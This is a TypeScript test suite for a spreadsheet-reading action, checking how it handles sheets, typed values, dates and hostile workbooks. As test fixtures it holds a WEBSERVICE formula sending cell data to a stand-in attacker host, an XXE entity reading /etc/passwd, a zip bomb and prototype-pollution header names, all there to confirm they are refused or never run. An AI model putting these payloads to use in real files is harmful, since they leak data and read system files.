import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { xlsxRead } from '../../src/actions/xlsx-read.js';
import { actionHarness } from '../helpers/action-context.js';
import { buildWorkbook, buildZip, expectValidOutput, extraField, MIB, stepError, workbookParts, type WorkbookFixture } from './archive-fixtures.js';

type Output = { rows: unknown[]; count: number; sheet: string; sheets: string[]; epoch: number; formulas: number };

function holding(bytes: Uint8Array, name = 'book.xlsx') {
  const harness = actionHarness(xlsxRead);
  harness.world.artifacts.add(name, bytes, 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', null);
  return (input: Record<string, unknown> = {}) => harness.run({ artifact: name, ...input });
}

async function read(bytes: Uint8Array, input: Record<string, unknown> = {}, name?: string): Promise<Output> {
  const output = await holding(bytes, name)(input);
  expectValidOutput(xlsxRead, output);
  return output as Output;
}

const refused = async (bytes: Uint8Array, input: Record<string, unknown> = {}, name?: string) => stepError(holding(bytes, name)(input));

/** A workbook written by exceljs (the way most generated workbooks look). */
async function excel(build: (workbook: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const workbook = new ExcelJS.Workbook();
  build(workbook);
  return new Uint8Array(await workbook.xlsx.writeBuffer());
}

/** Rows of a hand-written sheet: each row a list of cell XML strings (`<c …>…</c>`). */
const sheetRows = (rows: string[][]) => rows.map((cells, r) => `<row r="${r + 1}">${cells.join('')}</row>`).join('');
const num = (ref: string, value: number | string, style?: number) => `<c r="${ref}"${style !== undefined ? ` s="${style}"` : ''}><v>${value}</v></c>`;
const handMade = (fixture: WorkbookFixture) => buildWorkbook(fixture);

const simple = () =>
  excel((workbook) => {
    const sheet = workbook.addWorksheet('Orders');
    sheet.addRow(['id', 'name', 'paid']);
    sheet.addRow([1, 'Ada', true]);
    sheet.addRow([2, 'Grace', false]);
  });

describe('xlsx.read inputs', () => {
  it('ACT-02 the output holds only the fields of the output table', async () => {
    const output = await read(await simple());
    expect(Object.keys(output).sort()).toEqual(['count', 'epoch', 'formulas', 'rows', 'sheet', 'sheets']);
    expect(() => expectValidOutput(xlsxRead, { ...output, extra: 1 })).toThrow();
  });

  it('ACT-01 refuses an input field the table does not list', async () => {
    const error = await refused(await simple(), { range: 'A1:B2' });
    expect(error).toMatchObject({ code: 'invalid_input', message: 'range: is not a known input' });
  });

  it('XLSXR-01 artifact is required: an .xlsx file of at most 16 MB', async () => {
    expect((await stepError(actionHarness(xlsxRead).run({}))).code).toBe('invalid_input');
    expect((await stepError(actionHarness(xlsxRead).run({ artifact: 'missing.xlsx' }))).code).toBe('invalid_input');
    const big = new Uint8Array(16 * MIB + 1);
    big.set(await simple());
    const error = await refused(big);
    expect(error).toMatchObject({ code: 'invalid_input', message: 'artifact: must be at most 16 MB' });
  });

  it('XLSXR-02 .xlsm, .xlsb and .xls files fail with format_error, by name', async () => {
    const book = await simple();
    for (const name of ['macro.xlsm', 'binary.XLSB', 'old.xls']) {
      const error = await refused(book, {}, name);
      expect(error.code, name).toBe('format_error');
      expect(error.message).toContain('only .xlsx workbooks are read');
    }
  });

  it('XLSXR-02 .xlsm, .xlsb and .xls files fail with format_error, by content', async () => {
    // An .xls (OLE compound file) renamed to .xlsx.
    const ole = new Uint8Array(4096);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect((await refused(ole)).message).toContain('.xls workbook');
    // A macro project inside.
    const vba = handMade({ extraParts: { 'xl/vbaProject.bin': 'not really vba' } });
    expect((await refused(vba)).message).toContain('.xlsm');
    // A macro-enabled main part.
    const macroType = handMade({ contentTypesExtra: '<Override PartName="/xl/x.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>' });
    expect((await refused(macroType)).message).toContain('.xlsm');
    // A binary workbook.
    const xlsb = buildZip([{ name: '[Content_Types].xml', data: '<Types/>' }, { name: 'xl/workbook.bin', data: 'binary' }]);
    expect((await refused(xlsb)).message).toContain('.xlsb');
    // Not a workbook at all.
    expect((await refused(Buffer.from('id,name\n1,x\n'), {}, 'data.xlsx')).code).toBe('format_error');
  });

  it('XLSXR-07 dates is iso or serial', async () => {
    expect((await refused(await simple(), { dates: 'excel' })).code).toBe('invalid_input');
  });
});

describe('xlsx.read sheets', () => {
  const threeSheets = () =>
    handMade({
      sheets: [
        { name: 'Data', rows: sheetRows([[num('A1', 1)]]) },
        { name: 'data', rows: sheetRows([[num('A1', 2)]]) },
        { name: 'Summary', rows: sheetRows([[num('A1', 3)]]) },
      ],
    });

  it('XLSXR-03 a sheet name matches exactly first, then ignoring case', async () => {
    expect(await read(await threeSheets(), { sheet: 'data', has_header: false })).toMatchObject({ sheet: 'data', rows: [[2]] });
    expect(await read(await threeSheets(), { sheet: 'Data', has_header: false })).toMatchObject({ sheet: 'Data', rows: [[1]] });
    expect(await read(await threeSheets(), { sheet: 'SUMMARY', has_header: false })).toMatchObject({ sheet: 'Summary', rows: [[3]] });
    const error = await refused(await threeSheets(), { sheet: 'Secret Name' });
    expect(error).toMatchObject({ code: 'invalid_input', message: 'sheet: the workbook has no sheet with this name' });
  });

  it('XLSXR-04 a sheet number counts from 0', async () => {
    expect(await read(await threeSheets(), { sheet: 2, has_header: false })).toMatchObject({ sheet: 'Summary', rows: [[3]] });
    expect(await read(await threeSheets(), { sheet: 0, has_header: false })).toMatchObject({ sheet: 'Data' });
    expect((await refused(await threeSheets(), { sheet: 3 })).message).toBe('sheet: the workbook has 3 sheets, numbered from 0');
    expect((await refused(await threeSheets(), { sheet: -1 })).code).toBe('invalid_input');
  });

  it('XLSXR-05 without sheet, the first sheet in workbook order is read', async () => {
    const book = await excel((workbook) => {
      workbook.addWorksheet('First').addRow(['a']);
      workbook.addWorksheet('Second').addRow(['b']);
    });
    expect(await read(book, { has_header: false })).toMatchObject({ sheet: 'First', sheets: ['First', 'Second'], rows: [['a']] });
  });

  it('XLSXR-08 outputs are rows, count, sheet, sheets, epoch and formulas', async () => {
    const output = await read(await simple());
    expect(output).toEqual({
      rows: [
        { id: 1, name: 'Ada', paid: true },
        { id: 2, name: 'Grace', paid: false },
      ],
      count: 2,
      sheet: 'Orders',
      sheets: ['Orders'],
      epoch: 1900,
      formulas: 0,
    });
  });
});

describe('xlsx.read values', () => {
  it('XLSXR-06 has_header defaults to true; XLSXR-19 without a header rows are lists', async () => {
    const book = await simple();
    expect((await read(book)).rows[0]).toEqual({ id: 1, name: 'Ada', paid: true });
    const lists = await read(book, { has_header: false });
    expect(lists.rows).toEqual([
      ['id', 'name', 'paid'],
      [1, 'Ada', true],
      [2, 'Grace', false],
    ]);
    expect(lists.count).toBe(3);
  });

  it('XLSXR-09 formulas are never run: the saved value is returned', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('F');
      sheet.getCell('A1').value = 1;
      sheet.getCell('B1').value = { formula: 'A1*2', result: 99 } as ExcelJS.CellFormulaValue;
      sheet.getCell('C1').value = { formula: 'WEBSERVICE("https://evil.example/?q="&A1)', result: 'cached' } as ExcelJS.CellFormulaValue;
      sheet.getCell('D1').value = { formula: 'NOW()' } as ExcelJS.CellFormulaValue;
      sheet.getCell('E1').value = { formula: 'A1>0', result: true } as ExcelJS.CellFormulaValue;
    });
    expect((await read(book, { has_header: false })).rows).toEqual([[1, 99, 'cached', null, true]]);
  });

  it('XLSXR-10 formulas counts the formula cells read', async () => {
    const book = handMade({
      sheets: [
        { name: 'S', rows: sheetRows([[num('A1', 1), '<c r="B1"><f>A1+1</f><v>2</v></c>', '<c r="C1"><f t="shared" ref="C1:C2" si="0">A1</f><v>1</v></c>'], ['<c r="C2"><f t="shared" si="0"/><v>1</v></c>']]) },
        { name: 'Other', rows: sheetRows([['<c r="A1"><f>1</f><v>1</v></c>']]) },
      ],
    });
    expect(await read(book, { has_header: false })).toMatchObject({ formulas: 3, rows: [[1, 2, 1], [null, null, 1]] });
    expect((await read(book, { sheet: 'Other', has_header: false })).formulas).toBe(1);
    expect((await read(await simple())).formulas).toBe(0);
  });

  it('XLSXR-11 numbers are numbers, booleans booleans, text text', async () => {
    const book = handMade({
      sharedStrings: ['<si><t>shared</t></si>', '<si><r><t>rich </t></r><r><rPr><b/></rPr><t>text</t></r><rPh><t>PHONETIC</t></rPh></si>', '<si><t xml:space="preserve">  padded  </t></si>'],
      sheets: [
        {
          name: 'S',
          rows: sheetRows([
            [
              num('A1', '3.25'),
              num('B1', '-1E-3'),
              '<c r="C1" t="b"><v>1</v></c>',
              '<c r="D1" t="b"><v>0</v></c>',
              '<c r="E1" t="s"><v>0</v></c>',
              '<c r="F1" t="s"><v>1</v></c>',
              '<c r="G1" t="inlineStr"><is><t>inline &amp; more</t></is></c>',
              '<c r="H1" t="str"><f>"a"&amp;"b"</f><v>ab</v></c>',
              '<c r="I1" t="s"><v>2</v></c>',
              num('J1', '12345678901234567890'),
            ],
          ]),
        },
      ],
    });
    expect((await read(book, { has_header: false })).rows).toEqual([[3.25, -0.001, true, false, 'shared', 'rich text', 'inline & more', 'ab', '  padded  ', 12345678901234567000]]);
  });

  it('XLSXR-11 text in the _xHHHH_ form Excel writes for special characters reads as the character', async () => {
    const book = handMade({ sharedStrings: ['<si><t>line_x000D_\nnext_x005F_x0041_</t></si>'], sheets: [{ name: 'S', rows: sheetRows([['<c r="A1" t="s"><v>0</v></c>']]) }] });
    expect((await read(book, { has_header: false })).rows).toEqual([['line\r\nnext_x0041_']]);
  });

  it('XLSXR-12 error cells come back as their text', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('E');
      sheet.getCell('A1').value = { formula: '1/0', result: { error: '#DIV/0!' } } as ExcelJS.CellFormulaValue;
      sheet.getCell('B1').value = { error: '#N/A' } as ExcelJS.CellErrorValue;
    });
    expect((await read(book, { has_header: false })).rows).toEqual([['#DIV/0!', '#N/A']]);
  });

  it('XLSXR-13 empty cells are null', async () => {
    const book = handMade({ sheets: [{ name: 'S', rows: sheetRows([[num('A1', 1), num('D1', 4)], [], [num('B3', 2), '<c r="C3" s="0"/>']]) }] });
    expect((await read(book, { has_header: false })).rows).toEqual([
      [1, null, null, 4],
      [null, null, null, null],
      [null, 2, null, null],
    ]);
  });

  it('XLSXR-14 with dates: iso, date cells become ISO 8601 text: date, date-time or time only', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('D');
      const cell = (ref: string, value: Date, format: string) => {
        sheet.getCell(ref).value = value;
        sheet.getCell(ref).numFmt = format;
      };
      cell('A1', new Date(Date.UTC(2024, 2, 1)), 'yyyy-mm-dd');
      cell('B1', new Date(Date.UTC(2024, 2, 1, 14, 30, 5)), 'dd.mm.yyyy hh:mm:ss');
      cell('C1', new Date(Date.UTC(1899, 11, 30, 8, 15)), 'hh:mm');
      cell('D1', new Date(Date.UTC(2024, 11, 31, 23, 59, 59, 500)), 'yyyy-mm-dd hh:mm:ss.000');
      cell('E1', new Date(Date.UTC(2024, 2, 1, 6)), 'mm-dd-yy');
    });
    expect((await read(book, { has_header: false })).rows).toEqual([['2024-03-01', '2024-03-01T14:30:05', '08:15:00', '2024-12-31T23:59:59.500', '2024-03-01T06:00:00']]);
  });

  it('XLSXR-14 built-in and custom date formats are recognised; other formats stay numbers', async () => {
    const book = handMade({
      numFmts: '<numFmt numFmtId="164" formatCode="[$-409]d\\-mmm\\-yyyy;@"/><numFmt numFmtId="165" formatCode="0.00&quot; days&quot;"/><numFmt numFmtId="166" formatCode="[h]:mm:ss"/><numFmt numFmtId="167" formatCode="#,##0.00 [$EUR]"/>',
      cellStyles: [0, 14, 22, 21, 164, 165, 166, 167, 49],
      sheets: [{ name: 'S', rows: sheetRows([[num('A1', 45352, 1), num('B1', 45352.75, 2), num('C1', 0.5, 3), num('D1', 45352, 4), num('E1', 45352, 5), num('F1', 1.25, 6), num('G1', 45352, 7), num('H1', 45352, 8), num('I1', 45352, 0)]]) }],
    });
    expect((await read(book, { has_header: false })).rows).toEqual([['2024-03-01', '2024-03-01T18:00:00', '12:00:00', '2024-03-01', 45352, '1900-01-01T06:00:00', 45352, 45352, 45352]]);
  });

  it('XLSXR-15 with dates: serial, date cells stay serial numbers', async () => {
    const book = handMade({ cellStyles: [0, 14, 22], sheets: [{ name: 'S', rows: sheetRows([[num('A1', 45352, 1), num('B1', 45352.75, 2), num('C1', 7)]]) }] });
    expect((await read(book, { has_header: false, dates: 'serial' })).rows).toEqual([[45352, 45352.75, 7]]);
  });

  it('XLSXR-16 both the 1900 and the 1904 date system are read correctly', async () => {
    const dated = (date1904: boolean) =>
      excel((workbook) => {
        workbook.properties.date1904 = date1904;
        const sheet = workbook.addWorksheet('D');
        sheet.getCell('A1').value = new Date(Date.UTC(2024, 2, 1, 12));
        sheet.getCell('A1').numFmt = 'yyyy-mm-dd hh:mm';
      });
    const in1900 = await read(await dated(false), { has_header: false });
    const in1904 = await read(await dated(true), { has_header: false });
    expect(in1900).toMatchObject({ epoch: 1900, rows: [['2024-03-01T12:00:00']] });
    expect(in1904).toMatchObject({ epoch: 1904, rows: [['2024-03-01T12:00:00']] });
    expect((await read(await dated(false), { has_header: false, dates: 'serial' })).rows).toEqual([[45352.5]]);
    expect((await read(await dated(true), { has_header: false, dates: 'serial' })).rows).toEqual([[45352.5 - 1462]]);

    // 1900: Excel counts a 29 February 1900 that never was; days before it are one off.
    const early = handMade({ cellStyles: [0, 14], sheets: [{ name: 'S', rows: sheetRows([[1, 59, 60, 61, 0.25].map((serial, i) => num(`${'ABCDE'[i]}1`, serial, 1))]) }] });
    expect((await read(early, { has_header: false })).rows).toEqual([['1900-01-01', '1900-02-28', '1900-02-29', '1900-03-01', '06:00:00']]);
    // 1904: day 0 is 1 January 1904.
    const base1904 = handMade({ date1904: true, cellStyles: [0, 14], sheets: [{ name: 'S', rows: sheetRows([[num('A1', 0, 1), num('B1', 1, 1)]]) }] });
    expect(await read(base1904, { has_header: false })).toMatchObject({ epoch: 1904, rows: [['1904-01-01', '1904-01-02']] });
  });

  it('XLSXR-17 with a header, empty header names become column_1 and so on', async () => {
    const book = handMade({ sheets: [{ name: 'S', rows: sheetRows([[num('B1', '"x"'.length), '<c r="C1" t="inlineStr"><is><t>name</t></is></c>'], [num('A2', 1), num('B2', 2), num('C2', 3), num('D2', 4)]]) }] });
    expect((await read(book)).rows).toEqual([{ column_1: 1, '3': 2, name: 3, column_4: 4 }]);
  });

  it('XLSXR-18 with a header, repeated header names get _2, _3', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('S');
      sheet.addRow(['id', 'id', 'name', 'id', 'id_2']);
      sheet.addRow([1, 2, 'x', 3, 4]);
    });
    expect((await read(book)).rows).toEqual([{ id: 1, id_3: 2, name: 'x', id_4: 3, id_2: 4 }]);
  });

  it('XLSXR-20 rows start at A1: empty leading rows and columns are kept', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('S');
      sheet.getCell('C3').value = 'h1';
      sheet.getCell('D3').value = 'h2';
      sheet.getCell('C4').value = 1;
      sheet.getCell('D5').value = 2;
    });
    expect((await read(book, { has_header: false })).rows).toEqual([
      [null, null, null, null],
      [null, null, null, null],
      [null, null, 'h1', 'h2'],
      [null, null, 1, null],
      [null, null, null, 2],
    ]);
    // With a header, row 1 is the header even when it is empty.
    expect((await read(book)).rows[2]).toEqual({ column_1: null, column_2: null, column_3: 1, column_4: null });
  });

  it('keeps header names that are names of object members as plain fields', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('S');
      sheet.addRow(['__proto__', 'constructor']);
      sheet.addRow(['p', 'c']);
    });
    const row = (await read(book)).rows[0] as Record<string, unknown>;
    expect(Object.hasOwn(row, '__proto__')).toBe(true);
    expect(row.constructor).toBe('c');
    expect(Object.getPrototypeOf(row)).toBe(Object.prototype);
  });
});

describe('xlsx.read limits and hostile workbooks', () => {
  it('XLSXR-21 at most 100,000 rows', async () => {
    const rows = (n: number) => Array.from({ length: n }, (_, i) => `<row r="${i + 1}"><c r="A${i + 1}"><v>${i}</v></c></row>`).join('');
    expect((await read(handMade({ sheets: [{ name: 'S', rows: rows(100_001) }] }))).count).toBe(100_000);
    expect((await read(handMade({ sheets: [{ name: 'S', rows: rows(100_000) }] }), { has_header: false })).count).toBe(100_000);
    const error = await refused(handMade({ sheets: [{ name: 'S', rows: rows(100_002) }] }));
    expect(error).toMatchObject({ code: 'format_error', message: 'artifact: the sheet has more than 100,000 rows' });
    expect((await refused(handMade({ sheets: [{ name: 'S', rows: rows(100_001) }] }), { has_header: false })).code).toBe('format_error');
  });

  it('XLSXR-22 at most 1,000 columns', async () => {
    expect((await read(handMade({ sheets: [{ name: 'S', rows: sheetRows([[num('ALL1', 1)]]) }] }), { has_header: false })).rows[0]).toHaveLength(1000);
    const error = await refused(handMade({ sheets: [{ name: 'S', rows: sheetRows([[num('ALM1', 1)]]) }] }));
    expect(error).toMatchObject({ code: 'format_error', message: 'artifact: the sheet has more than 1,000 columns' });
  });

  it('refuses a sparse sheet whose range from A1 would be huge (one cell at A1, one at ALL100000)', async () => {
    const error = await refused(handMade({ sheets: [{ name: 'S', rows: `<row r="1">${num('A1', 1)}</row><row r="100000">${num('ALL100000', 1)}</row>` }] }), { has_header: false });
    expect(error.code).toBe('format_error');
  });

  it('XLSXR-23 the zip limits and refusals apply to the workbook', async () => {
    const parts = workbookParts({ sheets: [{ name: 'S', rows: sheetRows([[num('A1', 1)]]) }] });
    const entries = Object.entries(parts).map(([name, data]) => ({ name, data }));
    const damaged = entries.map((entry) => (entry.name.endsWith('sheet1.xml') ? { ...entry, crc32: 42 } : entry));
    expect((await refused(buildZip(damaged))).message).toBe('artifact: is damaged (checksum mismatch)');
    const encrypted = entries.map((entry, i) => (i === 0 ? { ...entry, flags: 1 } : entry));
    expect((await refused(buildZip(encrypted))).message).toContain('encrypted');
    expect((await refused(buildZip(entries.map((entry, i) => (i === 0 ? { ...entry, centralExtra: extraField(1, 16) } : entry))))).message).toContain('ZIP64');
    const crowded = [...entries, ...Array.from({ length: 1000 }, (_, i) => ({ name: `customXml/item${i}.xml`, data: '<a/>' }))];
    expect((await refused(buildZip(crowded))).message).toBe('artifact: holds more than 1,000 files and folders');
  });

  it('XLSXR-24 a workbook that unpacks to far more than its size fails (zip bomb)', async () => {
    const bomb = `<row r="1"><c r="A1"><v>1</v></c></row>${'<row/>'.repeat(4 * MIB)}`;
    const error = await refused(handMade({ sheets: [{ name: 'S', rows: bomb }] }));
    expect(error).toMatchObject({ code: 'format_error', message: 'artifact: a file over 1 MB would unpack to more than 100 times its packed size' });
    const lying = buildZip(Object.entries(workbookParts({})).map(([name, data]) => (name.endsWith('sheet1.xml') ? { name, data, size: 20 } : { name, data })));
    expect((await refused(lying)).code).toBe('format_error');
  });

  it('XLSXR-25 a workbook that holds another archive fails', async () => {
    const nested = handMade({ extraParts: { 'xl/embeddings/Book1.xlsx': buildWorkbook({}) } });
    expect(await refused(nested)).toMatchObject({ code: 'format_error', message: 'artifact: holds another archive or embedded file, which is not read' });
    const ole = new Uint8Array(1024);
    ole.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
    expect((await refused(handMade({ extraParts: { 'xl/embeddings/oleObject1.bin': ole } }))).code).toBe('format_error');
    expect((await refused(handMade({ extraParts: { 'xl/media/image1.png': Buffer.from([0x1f, 0x8b, 8, 0, 0, 0]) } }))).code).toBe('format_error');
  });

  it('refuses a DOCTYPE or an unknown entity inside a part (XXE in a workbook)', async () => {
    const xxe = handMade({ sheets: [{ name: 'S', rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>' }] });
    expect((await refused(xxe)).code).toBe('format_error');
    const parts = workbookParts({});
    parts['xl/sharedStrings.xml'] = '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><sst><si><t>&xxe;</t></si></sst>';
    const error = await refused(buildZip(Object.entries(parts).map(([name, data]) => ({ name, data }))));
    expect(error.code).toBe('format_error');
    expect(error.message).toContain('a DOCTYPE is not allowed');
  });

  it('refuses a cell that points at a shared string that does not exist', async () => {
    const book = handMade({ sharedStrings: ['<si><t>only</t></si>'], sheets: [{ name: 'S', rows: sheetRows([['<c r="A1" t="s"><v>5</v></c>']]) }] });
    expect(await refused(book)).toMatchObject({ code: 'format_error', message: 'artifact: is damaged (a cell refers to a shared string that does not exist)' });
  });

  it('reads formula-looking text as text, never as a formula', async () => {
    const book = await excel((workbook) => {
      const sheet = workbook.addWorksheet('S');
      sheet.addRow(['=HYPERLINK("https://evil.example","click")', "'=1+1", '@SUM(1)']);
    });
    expect(await read(book, { has_header: false })).toMatchObject({ rows: [['=HYPERLINK("https://evil.example","click")', "'=1+1", '@SUM(1)']], formulas: 0 });
  });
});

describe('xlsx.read on damaged parts', () => {
  it('XLSXR-23 damaged sheet XML ends in a format_error or clean rows, never a crash', async () => {
    const sheet = sheetRows([[num('A1', 1), '<c r="B1" t="s"><v>0</v></c>', '<c r="C1" t="inlineStr"><is><t>x</t></is></c>'], ['<c r="A2" t="b"><v>1</v></c>', '<c r="B2"><f>A1</f><v>1</v></c>', num('C2', 45352, 1)]]);
    const pieces = ['<', '>', '/', '"', '=', 'r="', 't="s"', 's="9"', '<v>', '</v>', '-1', 'ZZZ9', '99999999999', ' '];
    let seed = 5;
    const random = (n: number) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n;
    for (let round = 0; round < 400; round += 1) {
      let rows = sheet;
      for (let i = 1 + random(3); i > 0; i -= 1) {
        const at = random(rows.length);
        rows = rows.slice(0, at) + (random(2) ? pieces[random(pieces.length)] : '') + rows.slice(at + random(3));
      }
      const book = buildWorkbook({ sharedStrings: ['<si><t>s</t></si>'], cellStyles: [0, 14], sheets: [{ name: 'S', rows }] });
      try {
        const output = await holding(book)({ has_header: random(2) === 0 });
        expectValidOutput(xlsxRead, output);
      } catch (error) {
        expect(['format_error', 'invalid_input'], rows).toContain((error as { code?: string }).code);
      }
    }
  });
});
